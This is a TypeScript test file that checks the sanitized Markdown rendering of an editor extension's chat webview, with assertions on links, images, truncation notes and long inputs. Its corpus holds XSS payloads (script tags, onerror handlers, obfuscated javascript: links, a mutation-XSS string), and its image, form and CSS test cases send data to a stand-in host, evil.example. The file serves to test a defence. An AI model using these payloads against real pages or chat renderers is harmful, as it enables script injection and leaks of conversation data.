// The chat's Markdown pipeline (markdown-it → DOMPurify) run in Node on jsdom's window: what a
// model reply can make of the webview's DOM. The e2e suite runs an XSS corpus in the real browser;
// this catches a loosened allow-list in seconds.
import { strict as assert } from 'node:assert';
import { JSDOM } from 'jsdom';
import type { WindowLike } from 'dompurify';
import { createMarkdownRenderer, CUT_NOTE, MAX_MARKDOWN_CHARS, PLAIN_NOTE } from '../../../src/webview/markdown';
import { backtickRuns } from '../../support/builders';

const { window } = new JSDOM('<!DOCTYPE html><body></body>');
const render = createMarkdownRenderer(window as unknown as WindowLike);

function dom(markdown: string): Element {
  const container = window.document.createElement('div');
  container.innerHTML = render(markdown);
  return container;
}

/** Everything a rendering must never contain, as a list of findings (empty: clean). */
function dangers(container: Element): string[] {
  const found: string[] = [];
  for (const element of Array.from(container.querySelectorAll('*'))) {
    const tag = element.tagName.toLowerCase();
    if (['script', 'iframe', 'object', 'embed', 'base', 'meta', 'svg', 'math', 'form', 'input', 'style', 'link', 'frame'].includes(tag)) found.push(`<${tag}>`);
    for (const attribute of Array.from(element.attributes)) {
      const value = attribute.value.replace(/[\s\u0000-\u001f]/g, '').toLowerCase();
      if (attribute.name.startsWith('on')) found.push(`${tag}[${attribute.name}]`);
      if (attribute.name === 'style') found.push(`${tag}[style]`);
      if (['href', 'src', 'action', 'formaction', 'xlink:href'].includes(attribute.name) && (value.startsWith('javascript:') || value.startsWith('vbscript:') || value.startsWith('data:text/html'))) {
        found.push(`${tag}[${attribute.name}=${attribute.value}]`);
      }
    }
  }
  return found;
}

const CORPUS = [
  '<script>window.pwned = 1</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><circle r=1></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="x.swf"></object><embed src="x">',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A;&#x61;vascript&#58;alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![x](javascript:alert(1))',
  '![x](data:text/html,<script>alert(1)</script>)',
  '<a href="javascript:alert(1)">click</a>',
  '<form action="https://evil.example"><input name=a></form>',
  '<p style="background:url(https://evil.example/leak)">styled</p>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<div onclick="alert(1)">div</div>',
];

describe('chat markdown: sanitized rendering', () => {
  for (const payload of CORPUS) {
    it(`yields nothing executable from ${JSON.stringify(payload)}`, () => {
      assert.deepEqual(dangers(dom(payload)), []);
    });
  }

  it('shows raw HTML as text (html is off): the tags are visible, not elements', () => {
    const container = dom('<b onclick="x()">bold?</b>');
    assert.equal(container.querySelector('b'), null);
    assert.equal(container.textContent?.trim(), '<b onclick="x()">bold?</b>');
  });

  it('shows HTML inside a code fence as text, highlighted', () => {
    const container = dom('```html\n<script>alert(1)</script>\n```');
    assert.equal(container.querySelector('script'), null);
    assert.equal(container.querySelector('pre > code')?.textContent, '<script>alert(1)</script>\n');
    assert.ok(container.querySelector('pre > code span.hljs-tag'), 'the fence is highlighted as HTML');
  });

  it('drops a remote image source (it would leak the conversation) and keeps a raster data: image', () => {
    const remote = dom('![track](https://evil.example/pixel.png?q=secret)').querySelector('img');
    assert.equal(remote?.hasAttribute('src'), false);
    const inline = dom('![dot](data:image/png;base64,iVBORw0KGgo=)').querySelector('img');
    assert.equal(inline?.getAttribute('src'), 'data:image/png;base64,iVBORw0KGgo=');
    assert.deepEqual(Array.from(dom('![s](data:image/svg+xml;base64,PHN2Zz4=)').querySelectorAll('img[src]')), []);
  });

  it('keeps web links with rel=noopener and removes other schemes', () => {
    const link = dom('[docs](https://code.visualstudio.com/api)').querySelector('a');
    assert.deepEqual([link?.getAttribute('href'), link?.getAttribute('rel')], ['https://code.visualstudio.com/api', 'noopener noreferrer']);
    const file = dom('<file:///etc/passwd> [f](file:///etc/passwd)').querySelector('a');
    assert.equal(file?.hasAttribute('href') ?? false, false);
  });

  it('renders Markdown as elements: headings, lists, emphasis, tables, linkified URLs', () => {
    const container = dom('# Title\n\n- one\n- **two**\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\nsee https://example.com');
    assert.equal(container.querySelector('h1')?.textContent, 'Title');
    assert.equal(container.querySelectorAll('li').length, 2);
    assert.equal(container.querySelector('li strong')?.textContent, 'two');
    assert.equal(container.querySelectorAll('td').length, 2);
    assert.equal(container.querySelector('td[style]'), null);
    assert.equal(container.querySelector('p a')?.getAttribute('href'), 'https://example.com');
  });

  it('renders the first 100 000 characters of 150 000 backtick runs and says the rest is not shown', () => {
    const container = dom(backtickRuns(150_000));
    assert.equal(container.children.length, 2);
    assert.ok(container.querySelectorAll('p:first-child > code').length > 0);
    assert.equal(container.lastElementChild?.outerHTML, `<p><em>${CUT_NOTE}</em></p>`);
  });

  it('shows a text whose Markdown is mostly code spans as plain text under a note, not as 16 000 code elements', () => {
    const source = '`a '.repeat(150_000);
    const container = dom(source);
    assert.equal(container.querySelectorAll('code').length, 0);
    assert.deepEqual(
      Array.from(container.children).map((child) => child.outerHTML.slice(0, 60)),
      [`<p><em>${PLAIN_NOTE}</em></p>`.slice(0, 60), `<p>${'`a '.repeat(20)}`.slice(0, 60), `<p><em>${CUT_NOTE}</em></p>`.slice(0, 60)],
    );
    assert.equal(container.children[1]!.textContent, source.slice(0, MAX_MARKDOWN_CHARS));
  });

  it('renders the start of a very long text as Markdown and says the rest is not shown', () => {
    const sentence = 'A plain sentence of prose. ';
    const container = dom(`**bold start**\n\n${sentence.repeat(10_000)}`);
    assert.equal(container.querySelector('strong')?.textContent, 'bold start');
    assert.equal(container.children.length, 3);
    assert.ok(container.children[1]!.textContent!.startsWith(sentence.repeat(100)));
    assert.equal(container.lastElementChild?.outerHTML, `<p><em>${CUT_NOTE}</em></p>`);
  });
});
